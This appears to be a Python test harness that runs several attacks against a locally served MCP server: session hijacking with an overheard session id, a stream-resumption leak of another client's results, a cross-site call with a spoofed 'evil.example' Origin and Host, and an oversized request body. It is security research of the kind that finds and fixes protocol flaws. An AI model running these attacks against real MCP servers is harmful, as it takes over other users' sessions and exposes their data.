"""Strangers against the sessions of MCP servers, their resumable streams, and their doors."""

from __future__ import annotations

import asyncio
import uuid
from typing import Any

import httpx2
from mcp.server.streamable_http import EventCallback, EventMessage, EventStore
from mcp.types import JSONRPCMessage

from agentcomm.protocols.attacks.base import Outcome
from agentcomm.protocols.attacks.mcp_lab import LEGACY, MODERN, TIMEOUT, MCPAttack, MCPParts, client, result_of, serving
from agentcomm.protocols.attacks.mcp_wire import Recorder
from agentcomm.protocols.attacks.trying import tried

JSON = {"accept": "application/json, text/event-stream", "content-type": "application/json"}
BOB = {**JSON, "authorization": "Bearer bob"}
SECRET = 424242
IDS = range(1, 8)  # ids of calls that a client's first calls have
BODY = 8 * 1024 * 1024  # bytes


def call(number: int, pad: str = "", a: int = 1) -> dict[str, Any]:
    """A call of ``add``."""
    arguments: dict[str, Any] = {"a": a, "b": 0, **({"pad": pad} if pad else {})}
    params = {"name": "add", "arguments": arguments}
    return {"jsonrpc": "2.0", "id": number, "method": "tools/call", "params": params}


class SessionHijack(MCPAttack):
    """Calls a tool in the victim's session, whose id is known from the wire or a log."""

    name = "session_hijack"
    finding = "without authentication, knowing the id of a session is owning it"

    def parts(self) -> MCPParts:
        """The SDK's defaults, with the older protocol, which has sessions."""
        return MCPParts()

    async def attempt(self, parts: MCPParts) -> Outcome:
        """Overhear alice's session id and use it."""
        recorder = Recorder(httpx2.AsyncHTTPTransport())
        async with (
            serving(parts) as target,
            client(parts, target.url, "alice", wire=lambda _: recorder, mode="legacy") as alice,
        ):
            plain = await tried(alice.call_tool("add", {"a": 2, "b": 3}))
            before = len(target.calls)
            status = None
            if recorder.seen:
                session = recorder.seen[-1].headers.get("mcp-session-id", "")
                headers = {**BOB, "mcp-session-id": session, "mcp-protocol-version": LEGACY}
                async with httpx2.AsyncClient() as bob:
                    status = (await bob.post(f"{target.url}/mcp", json=call(99), headers=headers)).status_code
            executed = len(target.calls) - before
        honest = plain.worked and result_of(plain.value) == 5
        return Outcome(executed > 0, honest, {"status": status, "executed": executed, "honest": plain.word})


class UnguessableEvents(EventStore):
    """An event store as the SDK's examples have it, with ids that nobody can guess."""

    def __init__(self) -> None:
        self.events: list[tuple[str, str, JSONRPCMessage | None]] = []

    async def store_event(self, stream_id: str, message: JSONRPCMessage | None) -> str:
        """Store an event."""
        name = uuid.uuid4().hex
        self.events.append((name, stream_id, message))
        return name

    async def replay_events_after(self, last_event_id: str, send_callback: EventCallback) -> str | None:
        """Send the later events of the stream that an event is of."""
        places = [place for place, (name, _, _) in enumerate(self.events) if name == last_event_id]
        if not places:
            return None
        stream = self.events[places[0]][1]
        for name, of, message in self.events[places[0] + 1 :]:
            if of == stream and message is not None:
                await send_callback(EventMessage(message, name))
        return stream


class ResumptionLeak(MCPAttack):
    """Resumes its own stream, and receives the victim's answers to calls of the same id."""

    name = "resumption_leak"
    finding = "streams to resume are named by ids of calls alone, which are equal in every session"

    def parts(self) -> MCPParts:
        """The SDK with an event store as in its examples."""
        return MCPParts(app_options={"event_store": UnguessableEvents()})

    async def attempt(self, parts: MCPParts) -> Outcome:
        """Let bob and alice call tools, and bob resume."""
        async with serving(parts) as target, httpx2.AsyncClient(timeout=TIMEOUT) as bob:
            url = f"{target.url}/mcp"
            start = {"protocolVersion": LEGACY, "capabilities": {}, "clientInfo": {"name": "bob", "version": "0"}}
            hello = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": start}
            got = await bob.post(url, json=hello, headers=BOB)
            session = {"mcp-session-id": got.headers.get("mcp-session-id", ""), "mcp-protocol-version": LEGACY}
            ready = {"jsonrpc": "2.0", "method": "notifications/initialized"}
            await bob.post(url, json=ready, headers={**BOB, **session})

            async def events() -> list[str]:
                """The last event of the answer to each of bob's calls, refused or not."""
                texts = [(await bob.post(url, json=call(n), headers={**BOB, **session})).text for n in IDS]
                found = [[line for line in text.splitlines() if line.startswith("id:")] for text in texts]
                return [lines[-1].partition(":")[2].strip() for lines in found if lines]

            own = await events()
            async with client(parts, target.url, "alice", mode="legacy") as alice:
                plain = await tried(alice.call_tool("add", {"a": SECRET, "b": 0}))
            # Bob's later calls of the same ids end his replays: a replay that has come to them has left nothing out.
            ends = await events() if own else []
            resuming = (
                _resumed(bob, url, {**BOB, **session, "last-event-id": last}, end)
                for last, end in zip(own, ends, strict=True)
            )
            seen = await asyncio.gather(*resuming)
        honest = plain.worked and result_of(plain.value) == SECRET
        leaked = any(str(SECRET) in text for text in seen)
        return Outcome(leaked, honest, {"resumed": len(own), "leaked": leaked, "honest": plain.word})


async def _resumed(caller: httpx2.AsyncClient, url: str, headers: dict[str, str], end: str) -> str:
    """What a resumed stream gives until the secret, the event ``end``, or its own end.

    Raises:
        NoAnswerError: If none of them comes in time.
    """
    text = b""

    async def read() -> None:
        nonlocal text
        async with caller.stream("GET", url, headers=headers) as answer:
            async for chunk in answer.aiter_raw():
                text += chunk
                if any(str(value).encode() in text for value in (SECRET, end)):
                    break

    await tried(read())
    return text.decode(errors="replace")


class CrossSite(MCPAttack):
    """A page of another site, or one that rebinds its name, lets the victim's browser call a tool."""

    name = "cross_site"
    finding = "an app that is built for all interfaces serves foreign Host and Origin"

    def parts(self) -> MCPParts:
        """The SDK's app as it is built for ``0.0.0.0``; it is served on loopback here."""
        return MCPParts(app_options={"host": "0.0.0.0"})

    async def attempt(self, parts: MCPParts) -> Outcome:
        """Send what a browser would send."""
        names = {"protocolVersion": MODERN, "clientCapabilities": {}}
        body = call(1)
        body["params"]["_meta"] = {f"io.modelcontextprotocol/{key}": value for key, value in names.items()}
        headers = {**JSON, "mcp-protocol-version": MODERN, "mcp-method": "tools/call", "mcp-name": "add"}
        foreign = {"origin": "http://evil.example", "host": "evil.example"}
        async with serving(parts) as target:
            async with httpx2.AsyncClient() as browser:
                answer = await browser.post(f"{target.url}/mcp", json=body, headers={**headers, **foreign})
            executed = len(target.calls)
            async with client(parts, target.url, "alice") as alice:
                plain = await tried(alice.call_tool("add", {"a": 2, "b": 3}))
        honest = plain.worked and result_of(plain.value) == 5
        return Outcome(executed > 0, honest, {"status": answer.status_code, "honest": plain.word})


class HugeBody(MCPAttack):
    """Sends a call of many megabytes."""

    name = "huge_body"
    finding = "stopped by the SDK: bodies above 4 MiB are refused"

    async def attempt(self, parts: MCPParts) -> Outcome:
        """Send a huge call, then one of usual size."""
        async with serving(parts) as target, client(parts, target.url, "alice") as alice:
            attacked = await tried(alice.call_tool("add", {"a": 1, "b": 1, "pad": "x" * BODY}))
            executed = len(target.calls)
        async with serving(parts) as target, client(parts, target.url, "alice") as alice:
            plain = await tried(alice.call_tool("add", {"a": 2, "b": 3}))
        honest = plain.worked and result_of(plain.value) == 5
        return Outcome(executed > 0, honest, {"bytes": BODY, "attacked": attacked.word, "honest": plain.word})
